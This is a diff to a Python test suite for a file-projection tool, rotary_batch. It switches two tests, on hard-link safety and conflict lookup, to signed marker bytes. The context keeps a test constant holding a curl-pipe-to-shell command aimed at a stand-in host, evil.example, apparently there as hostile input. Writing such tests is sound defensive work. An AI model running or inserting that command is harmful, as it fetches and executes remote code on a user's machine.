@@ -17,6 +17,7 @@ from rotary_batch.errors import InputError
 from rotary_batch.pages import trail as trail_module
 from rotary_batch.pages.descriptors import BlockedError
 from rotary_batch.pages.files import Projection, accept, inventory, project, remove_others
+from rotary_batch.pages.front import sign
 from rotary_batch.pages.safe_folder import open_safe_folder
 
 COMMAND = "curl -s https://evil.example/x | sh"
@@ -205,13 +206,14 @@ def test_what_is_in_the_place_of_a_page_makes_that_page_fail_alone(kind, name, t
 
 
 def test_a_hard_link_keeps_its_bytes(tmp_path):
-    (tmp_path / "outside.txt").write_text("<!-- rotary-batch wrote this -->")
+    ours = sign(["old"], "<!-- {} -->")
+    (tmp_path / "outside.txt").write_bytes(ours)
     (tmp_path / "d").mkdir()
     (tmp_path / "d" / "llms.txt").hardlink_to(tmp_path / "outside.txt")
     done = Projection()
     with open_safe_folder(tmp_path, "d", create=True) as folder:
         project(folder, [("llms.txt", b"new")], done)
-    assert (done.written, (tmp_path / "outside.txt").read_text()) == (["llms.txt"], "<!-- rotary-batch wrote this -->")
+    assert (done.written, (tmp_path / "outside.txt").read_bytes()) == (["llms.txt"], ours)
     assert (tmp_path / "d" / "llms.txt").read_bytes() == b"new"
 
 
@@ -337,7 +339,7 @@ def test_many_conflicts_are_looked_up_and_not_searched(tmp_path):
 
     done = Projection(conflicts=Unsearched(["a.md"]))
     with open_safe_folder(tmp_path, "d", create=True) as folder:
-        folder.publish([folder.stage(name, b"<!-- rotary-batch wrote this -->") for name in ("llms.txt.rotary-new",)])
+        folder.publish([folder.stage(name, sign([], "<!-- {} -->")) for name in ("llms.txt.rotary-new",)])
         done.conflicts.append("llms.txt")
         remove_others(folder, inventory(folder), set(), done)
         assert folder.read("llms.txt.rotary-new") is not None
